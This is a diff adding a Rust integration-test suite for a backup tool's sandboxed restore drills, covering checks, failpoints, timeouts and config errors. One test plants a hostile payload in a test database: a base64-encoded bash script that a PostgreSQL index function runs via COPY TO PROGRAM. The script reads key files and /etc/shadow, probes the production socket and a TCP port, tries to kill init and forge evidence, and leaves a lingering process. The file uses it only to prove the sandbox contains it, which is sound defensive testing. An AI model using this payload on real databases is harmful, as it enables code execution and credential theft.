@@ -1,0 +1,405 @@
+//! Drills: the same restore as on-call runs, in a real sandbox on this machine, with everything that can go wrong with it.
+
+use std::process::Stdio;
+use std::time::Duration;
+
+use serde_json::Value;
+
+use crate::support::home::finish;
+use crate::support::{Cluster, Home, eventually};
+
+/// A source with a small database, a set-up, and one backup of it.
+pub struct Rehearsal {
+    pub source: Cluster,
+    pub home: Home,
+}
+
+const TABLES: &str = "CREATE TABLE patients (id int PRIMARY KEY, name text NOT NULL, seen timestamptz DEFAULT now());
+    INSERT INTO patients SELECT i, 'patient ' || i FROM generate_series(1, 5000) i;
+    CREATE INDEX ON patients (name); CREATE TABLE tiny (v int); INSERT INTO tiny VALUES (1), (2);";
+
+impl Rehearsal {
+    pub fn new() -> Self {
+        let source = Cluster::start();
+        source.psql("postgres", "CREATE DATABASE d");
+        source.psql("d", TABLES);
+        let home = Home::of(&source, "d");
+        for directory in ["restore", "drills"] {
+            std::fs::create_dir_all(home.path(directory)).unwrap();
+        }
+        let rehearsal = Self { source, home };
+        rehearsal.plan("");
+        rehearsal.home.backup();
+        rehearsal
+    }
+
+    pub fn plan(&self, more: &str) {
+        std::fs::write(self.home.path("restore/db.toml"), format!("[[restore]]\ndatastore = \"db\"\n{more}\n")).unwrap();
+    }
+
+    pub fn script(&self, text: &str) {
+        let size = if text.contains("[local]") { "" } else { "\n[local]\nsize_mib = 512\n" };
+        // Keys of the file's top come before its sections.
+        let (top, sections) = text.split_once("\n\n").unwrap_or((text, ""));
+        std::fs::write(self.home.path("drills/nightly.toml"), format!("plan = \"db\"\n{top}\n{size}\n{sections}\n")).unwrap();
+    }
+
+    /// Runs the drill and returns its report, whatever its verdict.
+    pub fn report(&self, code: i32) -> Value {
+        self.report_of(&["drill", "nightly", "--json"], code)
+    }
+
+    pub fn report_of(&self, arguments: &[&str], code: i32) -> Value {
+        let out = self.home.run(arguments);
+        assert_eq!(out.code, code, "stdout: {}\nstderr: {}", out.stdout, out.stderr);
+        let last: Value = serde_json::from_str(out.stdout.lines().last().unwrap_or_default()).unwrap_or_else(|e| panic!("{e}: {out:?}"));
+        self.assert_nothing_is_left();
+        last["report"].clone()
+    }
+
+    #[track_caller]
+    pub fn assert_nothing_is_left(&self) {
+        let places = std::fs::read_dir(self.home.path("catalog.sandboxes")).map(|all| all.flatten().map(|e| e.path()).collect::<Vec<_>>());
+        assert_eq!(places.unwrap_or_default(), Vec::<std::path::PathBuf>::new());
+        assert_eq!(self.processes(), Vec::<String>::new());
+    }
+
+    /// Processes that carry the name of one of this set-up's sandboxes in their arguments, or hold its files.
+    fn processes(&self) -> Vec<String> {
+        let tag = self.home.path("catalog.sandboxes").display().to_string();
+        let all = std::fs::read_dir("/proc").unwrap().flatten().filter_map(|e| std::fs::read(e.path().join("cmdline")).ok());
+        all.map(|line| String::from_utf8_lossy(&line).replace('\0', " ")).filter(|line| line.contains(&tag)).collect()
+    }
+}
+
+/// Processes whose first uid belongs to any sandbox.
+fn sandboxed_processes_of(uid: u64) -> usize {
+    let uids = [uid.to_string(), (uid + 1).to_string()];
+    let statuses = std::fs::read_dir("/proc").unwrap().flatten().filter_map(|e| std::fs::read_to_string(e.path().join("status")).ok());
+    let is = |status: &String| {
+        let field =
+            |name: &str| status.lines().find_map(|l| l.strip_prefix(name)).unwrap_or_default().split_whitespace().next().map(str::to_owned);
+        field("Uid:").is_some_and(|uid| uids.contains(&uid)) && field("State:").as_deref() != Some("Z")
+    };
+    statuses.filter(is).count()
+}
+
+fn answers(report: &Value) -> Vec<(String, String)> {
+    let all = report["checks"].as_array().unwrap().iter();
+    all.map(|c| (c["name"].as_str().unwrap().to_owned(), c["answer"].as_str().unwrap().to_owned())).collect()
+}
+
+#[test]
+fn a_drill_restores_checks_damages_tears_down_and_signs() {
+    let r = Rehearsal::new();
+    r.script("reviewers = [\"A. Meyer\"]");
+    let report = r.report(0);
+    assert_eq!(report["verdict"], "PASS", "{report:#}");
+    assert_eq!(report["reasons"].as_array().unwrap().len(), 0);
+    assert_eq!(answers(&report), [("fingerprint of db".to_owned(), "pass".to_owned())]);
+    let controls: Vec<_> =
+        report["controls"].as_array().unwrap().iter().map(|c| (c["control"].as_str().unwrap(), c["noticed"].as_bool())).collect();
+    let noticed = Some(true);
+    assert_eq!(
+        controls,
+        [("rows-dropped", noticed), ("byte-flipped", noticed), ("payload-truncated", noticed), ("foreign-envelope", noticed)]
+    );
+    assert_eq!(report["leftovers"].as_array().unwrap().len(), 0);
+    // Isolation is proven: nothing of the host was reached, and what was tried is named.
+    assert_eq!(report["isolation"]["gaps"].as_array().unwrap().len(), 0, "{report:#}");
+    let probes = report["isolation"]["probes"].as_array().unwrap();
+    let text = serde_json::to_string(probes).unwrap();
+    for tried in
+        ["interfaces", "processes", "127.0.0.1:5432", "example.com", ".s.PGSQL.5432", "signing.pem", "identity.txt", "catalog.db", "/vault"]
+    {
+        assert!(text.contains(tried), "{tried} was not tried: {text}");
+    }
+    assert!(probes.iter().all(|p| p["reached"] == false), "{text}");
+    // The moments are in order, and the time that counts is to the first query.
+    let moments = ["server_up", "payload_reachable", "loaded", "first_query", "verified", "torn_down"]
+        .map(|m| report["moments"][m].as_f64().unwrap());
+    assert!(moments.windows(2).all(|pair| pair[0] <= pair[1]), "{moments:?}");
+    assert_eq!(report["rto"]["measured_seconds"].as_f64().unwrap(), moments[3]);
+    assert!(report["backups"][0]["opened_with"] == "local" && report["backups"][0]["signature_verified"] == true);
+    assert_eq!(report["lifeboat_sha256"].as_str().unwrap().len(), 64);
+    // No name of a table and no value gets into the report.
+    let stored = std::fs::read_to_string(r.home.vault().join("evidence/00000002.json")).unwrap();
+    assert!(!stored.contains("patients") && !stored.contains("tiny"), "{stored}");
+    assert!(stored.contains("\"A. Meyer\""));
+    // History, prediction, certificate, verification.
+    r.home.run(&["drill", "history"]).ok();
+    assert!(r.report(0)["rto_predicted_seconds"].as_f64().unwrap() > 0.0);
+    let run = report["run"].as_str().unwrap();
+    r.home.run(&["drill", "certify", run, "--reviewer", "A. Meyer", "--statement", "seen"]).ok();
+    r.home.run(&["drill", "certify", "no-such-run", "--reviewer", "A", "--statement", "x"]).fails(2, &["there is none in the evidence"]);
+    let verified = r.home.run(&["evidence", "verify"]).ok();
+    assert!(verified.stderr.contains("5 records, 2 of them reports"), "{verified:?}");
+    // The next backup carries the head of the series.
+    let id = r.home.backup();
+    let manifest: Value = serde_json::from_slice(&std::fs::read(r.home.manifest(&id)).unwrap()).unwrap();
+    let newest = lifeboat::work::shelf::sha256(&std::fs::read(r.home.vault().join("evidence/00000005.json")).unwrap());
+    assert_eq!(manifest["evidence_head"], newest);
+    // And the plan that was in force.
+    assert!(manifest["payloads"].as_array().unwrap().iter().any(|p| p["role"] == "plan"), "{manifest:#}");
+}
+
+#[test]
+fn the_catalog_is_lost() {
+    let r = Rehearsal::new();
+    r.script("break = [\"catalog-lost\"]");
+    let report = r.report(0);
+    assert!(report["broken"]["catalog-lost"].as_str().unwrap().contains("learned 1 backups from the vault"), "{report:#}");
+}
+
+#[test]
+fn the_home_key_is_lost_and_the_other_slot_opens() {
+    let r = Rehearsal::new();
+    r.script("break = [\"home-key-lost\"]");
+    // Without another key in reach the drill says what production would say.
+    let report = r.report(8);
+    assert_eq!(report["verdict"], "FAIL");
+    assert!(report["reasons"][0].as_str().unwrap().contains("no key opens"), "{report:#}");
+    r.script("break = [\"home-key-lost\"]\nrecovery_identity = \"recovery.txt\"");
+    let report = r.report(0);
+    assert_eq!(report["broken"]["home-key-lost"], "the backup of db was opened with recovery");
+    r.script("break = [\"kms-gone\"]\nrecovery_identity = \"recovery.txt\"");
+    r.home.run(&["drill", "nightly"]).fails(2, &["no KMS key is configured", "home-key-lost"]);
+}
+
+#[test]
+fn lifeboat_itself_is_lost() {
+    let r = Rehearsal::new();
+    r.script("break = [\"lifeboat-lost\"]\nrecovery_identity = \"recovery.txt\"");
+    let report = r.report(0);
+    let outcome = report["broken"]["lifeboat-lost"].as_str().unwrap();
+    assert!(outcome.contains("RESTORE.md") && outcome.contains("stock tools alone"), "{outcome}");
+    assert_eq!(report["backups"][0]["opened_with"], "recovery");
+    assert_eq!(report["verdict"], "PASS", "{report:#}");
+}
+
+#[test]
+fn the_newest_backup_is_damaged_and_the_one_before_is_used() {
+    let r = Rehearsal::new();
+    r.script("break = [\"newest-damaged\"]");
+    let alone = r.report(8);
+    assert!(alone["reasons"][0].as_str().unwrap().contains("there is none before it"), "{alone:#}");
+    let first = r.home.run(&["list", "--json"]).ok().json()[0]["backup"].as_str().unwrap().to_owned();
+    r.source.psql("d", "INSERT INTO tiny VALUES (3)");
+    r.home.backup();
+    let report = r.report(0);
+    assert_eq!(report["backups"][0]["backup"], first, "{report:#}");
+    let outcome = report["broken"]["newest-damaged"].as_str().unwrap();
+    assert!(outcome.contains("noticed") && outcome.contains("costs"), "{outcome}");
+}
+
+#[test]
+fn every_kind_of_check_answers_pass_fail_or_could_not_look() {
+    let r = Rehearsal::new();
+    let smoke =
+        "[[checks]]\nkind = \"command\"\nname = \"smoke\"\ncommand = [\"/usr/bin/psql\", \"-Atc\", \"SELECT 1/count(*) FROM patients\"]\n";
+    r.script(&format!(
+        "\n\n[[checks]]\nkind = \"fingerprint\"\nname = \"all\"\n[[checks]]\nkind = \"sql\"\nname = \"count\"\nquery = \"SELECT count(*) FROM patients\"\nis = \"5000\"\n\
+         [[checks]]\nkind = \"freshness\"\nname = \"fresh\"\nquery = \"SELECT max(seen) FROM patients\"\n[[checks]]\nkind = \"amcheck\"\nname = \"amcheck\"\n\
+         [[checks]]\nkind = \"catalog\"\nname = \"catalog\"\nextensions = [\"plpgsql\"]\nroles = [\"postgres\"]\n{smoke}"
+    ));
+    let report = r.report(0);
+    assert!(answers(&report).iter().all(|(_, answer)| answer == "pass") && answers(&report).len() == 6, "{report:#}");
+    r.script(
+        "\n\n[[checks]]\nkind = \"fingerprint\"\nname = \"all\"\n[[checks]]\nkind = \"sql\"\nname = \"count\"\nquery = \"SELECT count(*) FROM patients\"\nat_least = 5001\n\
+         [[checks]]\nkind = \"freshness\"\nname = \"stale\"\nquery = \"SELECT '2020-01-01'::timestamptz\"\n\
+         [[checks]]\nkind = \"catalog\"\nname = \"catalog\"\nroles = [\"nobody_of_that_name\"]\n\
+         [[checks]]\nkind = \"command\"\nname = \"smoke\"\ncommand = [\"/bin/false\"]\n",
+    );
+    let report = r.report(8);
+    let failed = ["count", "stale", "catalog", "smoke"].map(|name| (name.to_owned(), "fail".to_owned()));
+    assert_eq!(answers(&report)[1..], failed, "{report:#}");
+    r.script(
+        "\n\n[[checks]]\nkind = \"fingerprint\"\nname = \"all\"\n[[checks]]\nkind = \"sql\"\nname = \"wrong\"\nquery = \"SELECT no_such_column FROM patients\"\nat_least = 1\n\
+         [[checks]]\nkind = \"sql\"\nname = \"rows\"\nquery = \"SELECT v FROM tiny\"\nat_least = 1\n\
+         [[checks]]\nkind = \"command\"\nname = \"smoke\"\ncommand = [\"/no/such/program\"]\n",
+    );
+    let report = r.report(9);
+    let blind = ["wrong", "rows", "smoke"].map(|name| (name.to_owned(), "could-not-look".to_owned()));
+    assert_eq!(answers(&report)[1..], blind, "{report:#}");
+    assert_eq!(report["verdict"], "NOT_VERIFIED");
+    // Without the fingerprint nothing passes.
+    r.script("\n\n[[checks]]\nkind = \"sql\"\nquery = \"SELECT 1\"\nis = \"1\"\n");
+    assert!(r.report(9)["reasons"][0].as_str().unwrap().contains("nothing was compared"));
+}
+
+#[test]
+fn plans_run_their_statements_and_expect_what_they_say() {
+    let r = Rehearsal::new();
+    r.script("");
+    r.plan("settings = { maintenance_work_mem = \"64MB\" }\nbefore = [\"CREATE SCHEMA before_loading\"]\nafter = [\"DROP SCHEMA before_loading\", \"ANALYZE\"]\nextensions = [\"plpgsql\"]\n[[restore.smoke]]\nname = \"answers\"\ncommand = [\"/usr/bin/psql\", \"-Atc\", \"SELECT count(*) FROM patients\"]");
+    let report = r.report(0);
+    assert_eq!(answers(&report).last().unwrap(), &("answers".to_owned(), "pass".to_owned()));
+    // What the machine lacks is not the backup's fault.
+    r.plan("extensions = [\"no_such_extension 1.0\"]");
+    let report = r.report(9);
+    assert!(report["reasons"][0].as_str().unwrap().contains("no_such_extension"), "{report:#}");
+    assert_eq!(report["halt"]["at-fault"], "sandbox");
+    // A statement that fails is.
+    r.plan("after = [\"SELECT 1/0\"]");
+    let report = r.report(8);
+    assert!(report["reasons"][0].as_str().unwrap().contains("statement 1 of `after`"), "{report:#}");
+    assert!(!report.to_string().contains("division by zero"), "what a server says is not stored: {report:#}");
+    // The same plan is run by a restore.
+    let target = Cluster::start();
+    r.home.run(&["restore", "db", "--to", &target.conninfo("back"), "--yes"]).fails(13, &["division by zero", "restore plan"]);
+    r.plan("after = [\"CREATE TABLE made_by_plan ()\"]\n[[restore.smoke]]\nname = \"answers\"\ncommand = [\"/bin/false\"]");
+    let target = Cluster::start();
+    r.home.run(&["restore", "db", "--to", &target.conninfo("back"), "--yes"]).fails(8, &["answers: it exited with 1"]);
+    assert_eq!(target.psql("back", "SELECT count(*) FROM pg_class WHERE relname = 'made_by_plan'"), "1");
+}
+
+#[test]
+fn a_sandbox_that_is_too_small_or_without_time_is_at_fault_itself() {
+    let r = Rehearsal::new();
+    r.source.psql(
+        "d",
+        "CREATE TABLE big AS SELECT i, sha256(i::text::bytea) AS h, sha256((-i)::text::bytea) AS g FROM generate_series(1, 1200000) i",
+    );
+    r.home.backup();
+    r.script("\n\n[local]\nsize_mib = 128\n");
+    let report = r.report(9);
+    assert_eq!((&report["verdict"], &report["halt"]["at-fault"]), (&Value::from("NOT_VERIFIED"), &Value::from("sandbox")), "{report:#}");
+}
+
+#[test]
+fn objectives_that_are_missed_fail_the_drill() {
+    let r = Rehearsal::new();
+    r.script("\n\n[objectives]\nrto = \"0s\"\nrpo = \"0s\"\n");
+    let report = r.report(8);
+    let reasons = report["reasons"].to_string();
+    assert!(reasons.contains("RTO missed") && reasons.contains("RPO missed"), "{reasons}");
+}
+
+/// Code in the dump runs as a superuser of the sandbox while it is restored: it looks for keys and for production, tries to forge
+/// evidence and to stay.
+#[test]
+fn a_hostile_dump_finds_nothing_reaches_nothing_and_does_not_outlive_the_drill() {
+    let r = Rehearsal::new();
+    let (home, socket) = (r.home.path(""), r.source.socket());
+    let script = format!(
+        "( cat {home}/keys/identity.txt {home}/keys/signing.pem && echo GOT-KEY; ls {home} && echo GOT-HOME; \
+           psql -h {socket} -U postgres -Atc 'SELECT 1' postgres && echo GOT-PRODUCTION; \
+           touch {home}/vault/evidence/00000009.json && echo GOT-EVIDENCE; \
+           cat /etc/shadow && echo GOT-SHADOW; ls /root && echo GOT-ROOT; test -e /proc/{pid} && echo GOT-PROCESS; \
+           exec 3<>/dev/tcp/127.0.0.1/22 && echo GOT-NETWORK; kill -9 1 && echo GOT-INIT; mount -t tmpfs none /mnt && echo GOT-MOUNT; \
+           cat /home/client/* && echo GOT-CLIENT; \
+           echo ran ) > /tmp/loot 2>/dev/null; setsid nohup sleep 86399 > /dev/null 2>&1 &",
+        home = home.display(),
+        socket = socket.display(),
+        pid = std::process::id(),
+    );
+    let encoded = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, script);
+    // Only in a sandbox: the source is a server of ours that must not run it.
+    r.source.psql(
+        "d",
+        &format!(
+            "CREATE FUNCTION evil_act() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN
+               IF current_setting('wal_level') = 'minimal' AND pg_read_file('/tmp/loot', 0, 1, true) IS NULL THEN
+                 EXECUTE $c$COPY (SELECT '') TO PROGRAM 'echo {} | base64 -d > /tmp/evil.sh; bash /tmp/evil.sh'$c$;
+               END IF; END $f$;
+             CREATE FUNCTION evil(i int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.evil_act(); RETURN i; END $f$;
+             CREATE TABLE trap (i int); INSERT INTO trap VALUES (1); CREATE INDEX ON trap (evil(i));",
+            encoded
+        ),
+    );
+    r.home.backup();
+    r.script("\n\n[[checks]]\nkind = \"fingerprint\"\n[[checks]]\nkind = \"sql\"\nname = \"loot\"\nquery = \"SELECT pg_read_file('/tmp/loot')\"\nis = \"ran\\n\"\n");
+    let out = r.home.run(&["drill", "nightly"]);
+    assert!(out.stderr.contains("pass  loot"), "{out:?}");
+    assert_eq!(out.code, 0, "{out:?}");
+    r.assert_nothing_is_left();
+    let sleepers = std::fs::read_dir("/proc").unwrap().flatten().filter_map(|e| std::fs::read(e.path().join("cmdline")).ok());
+    assert_eq!(sleepers.filter(|line| line.starts_with(b"sleep\x0086399")).count(), 0);
+    assert!(!r.home.vault().join("evidence/00000009.json").exists());
+    r.home.run(&["evidence", "verify"]).ok();
+}
+
+/// The lease of the sandbox that is there now.
+fn lease(home: &Home) -> Option<Value> {
+    let place = std::fs::read_dir(home.path("catalog.sandboxes")).ok()?.flatten().next()?;
+    serde_json::from_slice(&std::fs::read(place.path().join("lease.json")).ok()?).ok()
+}
+
+#[test]
+fn killed_at_any_step_nothing_runs_on_and_abort_or_resume_ends_in_a_report() {
+    let r = Rehearsal::new();
+    r.script("");
+    for (number, point) in lifeboat::failpoint::OF_DRILLS.iter().enumerate() {
+        let mut command = r.home.command(&["drill", "nightly"]);
+        command.env("LIFEBOAT_FAILPOINT", point);
+        let out = finish(command);
+        assert_eq!(out.code, 137, "{point}: {out:?}");
+        // The sandbox goes with its drill, before anybody cleans up.
+        if let Some(uid) = lease(&r.home).and_then(|lease| lease["uid"].as_u64()) {
+            eventually("the sandbox is gone", || sandboxed_processes_of(uid) == 0);
+        }
+        // Until then the series says that a drill has begun; it is not a flaw before its time.
+        r.home.run(&["evidence", "verify"]).ok();
+        let (verb, code, verdict) = if number % 2 == 0 { ("abort", 9, "NOT_VERIFIED") } else { ("resume", 0, "PASS") };
+        let report = r.report_of(&["drill", verb, "nightly", "--json"], code);
+        assert_eq!(report["verdict"], verdict, "{point}: {report:#}");
+        r.home.run(&["drill", "abort", "nightly"]).fails(2, &["or it has its report"]);
+    }
+    let verified = r.home.run(&["evidence", "verify"]).ok();
+    assert!(verified.stderr.contains("12 records, 6 of them reports"), "{verified:?}");
+}
+
+#[test]
+fn a_sandbox_ends_by_itself_after_its_time_though_lifeboat_stands_still() {
+    let r = Rehearsal::new();
+    r.script("time_to_live = \"6s\"");
+    let go_on = r.home.path("go-on");
+    let mut command = r.home.command(&["drill", "nightly", "--json"]);
+    command.env("LIFEBOAT_WAITPOINT", format!("drill-loaded={}", go_on.display())).stdin(Stdio::null());
+    let drill = command.spawn().unwrap();
+    let reached = r.home.path("go-on.reached");
+    eventually("the drill has loaded", || reached.exists());
+    let uid = lease(&r.home).unwrap()["uid"].as_u64().unwrap();
+    assert!(sandboxed_processes_of(uid) > 0);
+    // Another drill of the same name does not begin meanwhile.
+    r.home.run(&["drill", "nightly"]).fails(4, &["drill nightly is running already"]);
+    r.home.run(&["drill", "abort", "nightly"]).fails(4, &["running already"]);
+    let begun = std::time::Instant::now();
+    eventually("its time is over", || sandboxed_processes_of(uid) == 0);
+    assert!(begun.elapsed() < Duration::from_secs(30));
+    std::fs::write(&go_on, "").unwrap();
+    let out = drill.wait_with_output().unwrap();
+    let last: Value = serde_json::from_str(String::from_utf8_lossy(&out.stdout).lines().last().unwrap()).unwrap();
+    assert_eq!((out.status.code(), &last["report"]["verdict"]), (Some(9), &Value::from("NOT_VERIFIED")), "{last:#}");
+    r.assert_nothing_is_left();
+}
+
+#[test]
+fn what_is_wrong_with_drill_files_is_said_at_once() {
+    let r = Rehearsal::new();
+    r.script("");
+    let steady = |text: &str| text.replace(r.home.path("").to_str().unwrap(), "/HOME/");
+    r.home.run(&["drill", "nigthly"]).fails(2, &["there is no drill nigthly", "did you mean nightly?"]);
+    std::fs::write(
+        r.home.path("drills/nightly.toml"),
+        "plan = \"db\"\nbackup = \"newest\"\nbreak = [\"everything\"]\naccept_gaps = [\"all\"]\ncontrols = []\nsandbx = \"local\"\n[objectives]\nrto = \"soon\"\n[[checks]]\nkind = \"sql\"\nquery = \"SELECT 1\"\n[[checks]]\nkind = \"sql\"\nis = \"1\"\n[[checks]]\nkind = \"guess\"\n[[checks]]\nkind = \"command\"\nname = \"x\"\ncommand = []\n[[checks]]\n",
+    )
+    .unwrap();
+    let out = r.home.run(&["drill", "nightly"]);
+    assert_eq!(out.code, 2);
+    insta::assert_snapshot!(steady(&out.stderr));
+    std::fs::write(r.home.path("drills/nightly.toml"), "plan = \"other\"\n").unwrap();
+    r.home.run(&["drill", "nightly"]).fails(2, &["there is no plan \"other\"", "plans in restore/ are: db"]);
+    r.script("");
+    std::fs::write(
+        r.home.path("restore/db.toml"),
+        "[[restore]]\ndatastore = \"dbb\"\n[[restore]]\ndatastore = \"db\"\nsettings = { archive_command = \"rm\", \"a b\" = \"1\" }\nmajor = 3\n[[restore]]\ndatastore = \"db\"\n",
+    )
+    .unwrap();
+    let out = r.home.run(&["drill", "nightly"]);
+    assert_eq!(out.code, 2);
+    insta::assert_snapshot!(steady(&out.stderr));
+    // No half-begun drill is left of all this.
+    r.home.run(&["evidence", "verify"]).ok();
+    assert!(!r.home.vault().join("evidence").exists());
+}
